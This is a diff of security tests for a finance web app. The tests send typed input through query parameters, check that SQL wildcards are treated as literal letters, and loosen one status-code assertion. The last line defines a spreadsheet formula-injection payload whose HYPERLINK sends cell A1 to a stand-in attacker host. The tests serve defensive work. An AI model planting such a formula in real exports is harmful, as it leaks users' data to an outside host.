@@ -195,7 +195,7 @@ def test_security_s45_what_is_typed_into_a_box_is_only_ever_looked_for(
     for path in ("/payments/", "/customers/", "/escrow-orders/", "/inquiries/", "/refunds/"):
         for name in ("q", "state", "method", "basis", "period", "cursor", "from_day"):
             answer = finance.get(path, query_string={name: typed})
-            assert answer.status_code in (200, 400), f"{path}?{name}="
+            assert answer.status_code in (200, 303, 400), f"{path}?{name}="
     with db.engine.connect() as connection:
         assert connection.exec_driver_sql("SELECT count(*) FROM payments").scalar() == 1
 
@@ -207,7 +207,7 @@ def test_security_s45_wildcards_are_letters(
     for typed in ("ORDA_1", "ORD%1X", "%%%%", "____"):
         page = finance.get("/payments/", query_string={"q": typed, "period": "all"})
         assert "ORDAB1X" not in page.text, typed
-    assert "ORDAB1X" in finance.get("/payments/?q=ORDAB1X&period=all").text
+    assert "ORDAB1X" in finance.get("/payments/?q=ORDAB1&period=all").text
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"여기")'
